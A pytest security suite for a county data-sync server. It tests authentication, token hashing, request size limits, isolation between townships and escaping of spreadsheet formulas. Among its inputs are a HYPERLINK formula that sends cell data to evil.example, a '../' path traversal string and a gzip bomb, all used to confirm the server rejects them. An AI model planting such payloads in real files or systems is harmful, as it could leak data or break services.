"""The county server's guards: every route authenticates (or is deliberately public), tokens are
random, hashed and revocable at once, bodies and batches are bounded, and township A gets nothing of B."""

from __future__ import annotations

import gzip
import hashlib
import json
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.routing import APIRoute
from sqlalchemy import select

from county_support import backends
from two_townships import World, build, enrol
from zongzhi_county import admin, limits
from zongzhi_county.schema import devices, quarantine, transfers
from zongzhi_desktop.sync.protocol import API, MAX_ATTACHMENT_BYTES, MAX_BATCH_OPS, PULL_PAGE, ErrorBody

ADMIN_TOKEN = "c0unty-admin-9f8e7d6c5b4a39281706"
SHA = "0" * 64
# Every route and who may call it; a route missing here fails the first test.
GUARDS = {
    ("GET", f"{API}/info"): "public",  # county name and clock: what a PC checks before enrolling
    ("GET", "/health"): "public",  # up or not, and why in a few words; no county data
    ("POST", f"{API}/enroll"): "public",  # spends a one-time code (60 bits, 7 days, once)
    ("POST", f"{API}/push"): "device",
    ("POST", f"{API}/re-enroll"): "device",  # a rewound PC gets a new id with the token it holds
    ("GET", f"{API}/pull"): "device",
    ("POST", f"{API}/blobs/missing"): "device",
    ("PUT", f"{API}/blobs/{{sha256}}"): "device",
    ("GET", f"{API}/blobs/{{sha256}}"): "device",
    ("POST", f"{API}/transfers"): "device",
    ("POST", f"{API}/merges"): "device",
    ("GET", f"{API}/integrity/tables"): "device",
    ("GET", f"{API}/integrity/buckets"): "device",
    ("POST", f"{API}/integrity/bucket-rows"): "device",
    ("POST", f"{API}/integrity/rows"): "device",
    ("POST", "/county/v1/assign"): "admin",
    ("GET", "/openapi.json"): "public",  # the contract, no data
}


@pytest.fixture(scope="module", params=backends())
def world(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    w = build(request.param, tmp_path_factory.mktemp(f"security-{request.param}"))
    admin.revoke_device(w.engine, w.a_spare.device_id)
    yield w
    w.client.close()
    w.engine.dispose()


def _routes(world: World) -> set[tuple[str, str]]:
    out = set()
    for route in world.client.app.routes:
        methods = getattr(route, "methods", None) or set()
        out |= {(m, route.path) for m in methods if m != "HEAD"}
    return out


def _call(world: World, method: str, path: str, headers: dict[str, str]) -> Any:
    url = path.replace("{sha256}", SHA)
    params = {"tbl": "residents"} if path.endswith("buckets") else None
    content = b"{}" if method in ("POST", "PUT") else None
    return world.client.request(method, url, headers=headers, content=content, params=params)


def _refusal(answer: Any, status: int, code: str) -> None:
    assert answer.status_code == status, answer.text
    assert ErrorBody.model_validate(answer.json()).code == code

IN_A_MONTH = (date.today() + timedelta(days=30)).isoformat()  # a deadline still ahead whenever this runs


def test_every_route_is_classified(world: World) -> None:
    assert _routes(world) == set(GUARDS)
    assert not any(isinstance(r, APIRoute) and r.path in ("/docs", "/redoc") for r in world.client.app.routes)


@pytest.mark.parametrize(("method", "path"), [k for k, v in GUARDS.items() if v != "public"])
def test_guarded_routes_refuse_wrong_credentials(world: World, method: str, path: str,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ZONGZHI_COUNTY_ADMIN_TOKEN", ADMIN_TOKEN)
    for headers in ({}, {"Authorization": "Bearer x" * 3}, {"Authorization": "Basic " + world.a.token},
                    {"Authorization": "Bearer " + "A" * 5000}):
        _refusal(_call(world, method, path, headers), 401, "sync.unauthorized")
    if GUARDS[(method, path)] == "device":
        _refusal(_call(world, method, path, world.a_spare.auth), 403, "sync.revoked")
        _refusal(_call(world, method, path, {"Authorization": f"Bearer {ADMIN_TOKEN}"}), 401, "sync.unauthorized")
    else:  # a device's token is no administrator's
        _refusal(_call(world, method, path, world.a.auth), 401, "sync.unauthorized")


def test_public_routes_give_nothing_of_a_township(world: World) -> None:
    info = world.client.get(f"{API}/info")
    assert info.status_code == 200 and world.b.township not in info.text
    health = world.client.get("/health")
    assert health.status_code == 200 and world.b.township not in health.text
    _refusal(world.client.post(f"{API}/enroll", json={
        "code": "AAAA-BBBB-CCCC", "device_id": "x", "device_name": "x", "public_key": "A" * 43 + "=",
        "schema_ver": 1, "app_ver": "1"}), 403, "sync.bad_code")


def test_tokens_are_random_and_stored_only_hashed(world: World) -> None:
    tokens = [world.a.token, world.a_spare.token, world.b.token]
    assert len(set(tokens)) == 3 and all(len(t) >= 43 for t in tokens)  # 32 random bytes, base64url
    with world.engine.connect() as conn:
        rows = [dict(r) for r in conn.execute(select(devices)).mappings()]
    stored = json.dumps(rows, default=str)
    assert not any(t in stored for t in tokens)
    by_id = {r["device_id"]: r["token_hash"] for r in rows}
    assert by_id[world.a.device_id] == hashlib.sha256(world.a.token.encode()).hexdigest()


def test_revocation_takes_effect_on_the_next_request(world: World) -> None:
    device = enrol(world.client, world.engine, world.a.township)
    assert world.client.get(f"{API}/pull", headers=device.auth).status_code == 200
    admin.revoke_device(world.engine, device.device_id)
    _refusal(world.client.get(f"{API}/pull", headers=device.auth), 403, "sync.revoked")
    _refusal(world.client.post(f"{API}/blobs/missing", json={"sha256": []}, headers=device.auth), 403, "sync.revoked")


def test_the_admin_endpoint_is_closed_without_a_long_enough_token(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    body = {"township": world.a.township, "title": "县级交办", "category": "0202", "deadline": IN_A_MONTH}
    monkeypatch.delenv("ZONGZHI_COUNTY_ADMIN_TOKEN", raising=False)
    _refusal(world.client.post("/county/v1/assign", json=body, headers={"Authorization": "Bearer "}), 401,
             "sync.unauthorized")
    monkeypatch.setenv("ZONGZHI_COUNTY_ADMIN_TOKEN", "short")
    _refusal(world.client.post("/county/v1/assign", json=body, headers={"Authorization": "Bearer short"}), 401,
             "sync.unauthorized")
    monkeypatch.setenv("ZONGZHI_COUNTY_ADMIN_TOKEN", ADMIN_TOKEN)
    done = world.client.post("/county/v1/assign", json=body, headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    assert done.status_code == 200 and done.json()["case_no"].startswith("C360731-")


# -- bounded requests ------------------------------------------------------------------------------
def test_a_body_over_the_limit_is_refused_before_it_is_parsed(world: World) -> None:
    big = b" " * (limits.MAX_BODY_BYTES + 1)
    _refusal(world.client.post(f"{API}/blobs/missing", content=big, headers=world.a.auth), 413, "sync.request_too_large")


def test_a_chunked_body_is_counted_as_it_arrives(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_BODY_BYTES", 1000)
    chunks = iter([b'{"sha256": [' + b" " * 600, b" " * 600, b"]}"])
    _refusal(world.client.post(f"{API}/blobs/missing", content=chunks, headers=world.a.auth), 413,
             "sync.request_too_large")


def test_a_gzip_bomb_is_stopped_at_the_inflated_limit(world: World) -> None:
    bomb = gzip.compress(b" " * (limits.MAX_JSON_BYTES + 2**20), compresslevel=9)
    assert len(bomb) < 2**20  # under a megabyte on the wire
    answer = world.client.post(f"{API}/blobs/missing", content=bomb, headers={**world.a.auth, "Content-Encoding": "gzip"})
    _refusal(answer, 413, "sync.request_too_large")
    cut = gzip.compress(b'{"sha256": []}')[:-6]
    _refusal(world.client.post(f"{API}/blobs/missing", content=cut, headers={**world.a.auth, "Content-Encoding": "gzip"}),
             400, "sync.bad_response")  # what the PC retries: a cut upload
    whole = gzip.compress(b'{"sha256": []}')
    ok = world.client.post(f"{API}/blobs/missing", content=whole, headers={**world.a.auth, "Content-Encoding": "gzip"})
    assert ok.status_code == 200 and ok.json() == {"missing": []}
    _refusal(world.client.post(f"{API}/blobs/missing", content=b"{}", headers={**world.a.auth, "Content-Encoding": "br"}),
             415, "sync.bad_request")


def test_batches_pages_and_queries_are_bounded(world: World) -> None:
    ops = [{"local_seq": i, "op_id": str(i), "tx_id": "t", "tbl": "residents", "row_id": str(i), "kind": "insert",
            "fields": {}, "hlc": 1, "wall_ms": 1, "schema_ver": 1} for i in range(MAX_BATCH_OPS + 1)]
    push = {"schema_ver": 1, "app_ver": "t", "device_id": world.a.device_id, "first_seq": 0, "last_seq": 0,
            "client_wall_ms": 1, "client_hlc": 1, "ops": ops}
    answer = world.client.post(f"{API}/push", json=push, headers=world.a.auth)
    assert answer.status_code == 422 and ErrorBody.model_validate(answer.json())
    for params in ({"limit": PULL_PAGE + 1}, {"limit": 0}, {"cursor": -1}, {"cursor": 2**63}):
        _refusal(world.client.get(f"{API}/pull", params=params, headers=world.a.auth), 422, "sync.bad_request")
    _refusal(world.client.post(f"{API}/blobs/missing", json={"sha256": [SHA] * (limits.MAX_BLOB_QUERY + 1)},
                               headers=world.a.auth), 413, "sync.bad_request")
    push["ops"] = [{**ops[0], "local_seq": 2**63}]
    _refusal(world.client.post(f"{API}/push", json=push, headers=world.a.auth), 422, "sync.bad_request")
    _refusal(world.client.get(f"{API}/integrity/buckets", params={"tbl": "a\x00"}, headers=world.a.auth), 422,
             "sync.bad_request")


def test_an_attachment_over_the_limit_is_refused_unread(world: World) -> None:
    data = b"x" * (MAX_ATTACHMENT_BYTES + 1)
    sha = hashlib.sha256(data).hexdigest()
    _refusal(world.client.put(f"{API}/blobs/{sha}", content=data, headers=world.a.auth), 413, "sync.blob_too_big")
    _refusal(world.client.put(f"{API}/blobs/{sha}", content=b"other", headers=world.a.auth), 400, "sync.blob_mismatch")
    _refusal(world.client.put(f"{API}/blobs/{'../' * 21}x", content=b"x", headers=world.a.auth), 404, "sync.not_found")
    _refusal(world.client.put(f"{API}/blobs/{'G' * 64}", content=b"x", headers=world.a.auth), 400, "sync.blob_mismatch")


def test_unknown_paths_and_methods_answer_json(world: World) -> None:
    _refusal(world.client.get("/sync/v1/nothing", headers=world.a.auth), 404, "sync.not_found")
    _refusal(world.client.delete(f"{API}/pull", headers=world.a.auth), 405, "sync.bad_request")


# -- township A gets nothing of township B ---------------------------------------------------------
def _no_b(world: World, answer: Any) -> None:
    forms = {m for marker in world.b_markers for m in (marker, json.dumps(marker)[1:-1])}
    assert not [m for m in forms if m in answer.text], answer.text[:300]


def test_pull_from_any_cursor_holds_nothing_of_b(world: World) -> None:
    head = world.client.get(f"{API}/pull", headers=world.a.auth).json()["head_seq"]
    for cursor in range(0, head + 2):
        for limit in (1, 3, PULL_PAGE):
            answer = world.client.get(f"{API}/pull", params={"cursor": cursor, "limit": limit}, headers=world.a.auth)
            assert answer.status_code == 200
            _no_b(world, answer)
            rows = {c["row_id"] for c in answer.json()["changes"]}
            assert not rows & {world.ids["b_resident"], world.ids["b_case"], world.ids["b_attachment"]}


def test_b_attachment_is_not_served_to_a_even_by_its_hash(world: World) -> None:
    _refusal(world.client.get(f"{API}/blobs/{world.b_blob_sha}", headers=world.a.auth), 404, "sync.blob_mismatch")
    missing = world.client.post(f"{API}/blobs/missing", json={"sha256": [world.b_blob_sha]}, headers=world.a.auth)
    assert missing.json()["missing"] == [world.b_blob_sha]  # says nothing of B's copy
    assert world.client.get(f"{API}/blobs/{world.b_blob_sha}", headers=world.b.auth).content == world.b_blob


def test_a_township_holding_the_same_file_proves_it_by_uploading(world: World, tmp_path: Path) -> None:
    device = enrol(world.client, world.engine, world.a.township)
    data = b"the same scan in two townships " * 20
    sha = hashlib.sha256(data).hexdigest()
    assert world.client.put(f"{API}/blobs/{sha}", content=data, headers=world.b.auth).status_code == 200
    assert world.client.post(f"{API}/blobs/missing", json={"sha256": [sha]}, headers=device.auth).json()["missing"] == [sha]
    assert world.client.put(f"{API}/blobs/{sha}", content=data, headers=device.auth).status_code == 200
    assert world.client.get(f"{API}/blobs/{sha}", headers=world.a.auth).content == data


def test_requests_naming_b_records_change_and_reveal_nothing(world: World) -> None:
    ids, a = world.ids, world.a.auth
    with world.engine.connect() as conn:
        before = conn.execute(select(transfers)).all()
    _refusal(world.client.post(f"{API}/transfers", json={"resident_id": ids["b_resident"], "to_township": world.a.township,
                                                         "reason": "拿来"}, headers=a), 404, "sync.op.unknown_row")
    _refusal(world.client.post(f"{API}/merges", json={"keep": ids["a_resident"], "drop": ids["b_resident"]}, headers=a),
             400, "sync.merge_invalid")
    _refusal(world.client.post(f"{API}/merges", json={"keep": ids["b_resident"], "drop": ids["b_other"]}, headers=a),
             400, "sync.merge_invalid")
    with world.engine.connect() as conn:
        assert conn.execute(select(transfers)).all() == before
    rows = world.client.post(f"{API}/integrity/rows", json={"tbl": "residents", "ids": [ids["b_resident"], ids["a_resident"]]},
                             headers=a)
    assert [r["row_id"] for r in rows.json()["rows"]] == [ids["a_resident"]]
    _no_b(world, rows)
    buckets = world.client.post(f"{API}/integrity/bucket-rows",
                                json={"tbl": "residents", "buckets": [ids["b_resident"][-2:], ids["b_other"][-2:]]}, headers=a)
    assert not {r[0] for r in buckets.json()["rows"]} & {ids["b_resident"], ids["b_other"]}
    sums = world.client.get(f"{API}/integrity/tables", headers=a).json()["tables"]
    assert sums["residents"]["count"] == 2  # A's two people, not B's
    for tbl in ("residents", "disputes", "attachments"):
        _no_b(world, world.client.get(f"{API}/integrity/buckets", params={"tbl": tbl}, headers=a))


def test_an_edit_pushed_at_a_b_record_is_quarantined_and_b_is_untouched(world: World) -> None:
    answer = world.push(world.a, [("residents", world.ids["b_resident"], "update",
                                   {"name": {"new": "改名", "base_seq": None}})])
    assert answer.status_code == 200 and answer.json()["results"][0]["status"] == "rejected"
    _no_b(world, answer)
    with world.engine.connect() as conn:
        held = conn.execute(select(quarantine.c.township_code).where(quarantine.c.device_id == world.a.device_id)).all()
    assert held and all(t == world.b.township for (t,) in held)  # waits for B's owner, never applied
    rows = world.client.post(f"{API}/integrity/rows", json={"tbl": "residents", "ids": [world.ids["b_resident"]]},
                             headers=world.b.auth).json()["rows"]
    assert rows[0]["values"]["name"] == world.b_markers[0]


# -- bad input never becomes code ------------------------------------------------------------------
def test_a_township_cannot_put_a_formula_into_the_county_report(world: World, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from zongzhi_county.report import write_county_report

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    figures = {"categories": [{"name": evil, "month": {"new": 1}}, {"name": "@SUM(1+1)", "month": {}}],
               "total": {"month": {"new": 1}}}
    answer = world.push(world.a, [("monthly_reports", "0f0e0d0c-0000-4000-8000-00000000f001", "insert",
                                   {"month": "2026-10", "revision": 1, "status": "submitted",
                                    "figures": json.dumps(figures, ensure_ascii=False)})])
    assert answer.status_code == 200 and answer.json()["results"][0]["status"] == "applied", answer.text
    out = tmp_path / "county.xlsx"
    write_county_report(world.engine, "2026-10", out)
    book = load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    typed = {c.value: c for c in cells}
    assert typed[evil].data_type == "s" and typed[evil].quotePrefix
    assert typed["@SUM(1+1)"].data_type == "s" and typed["@SUM(1+1)"].quotePrefix
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas and not [f for f in formulas if "HYPERLINK" in f or "evil" in f]  # only the report's own sums
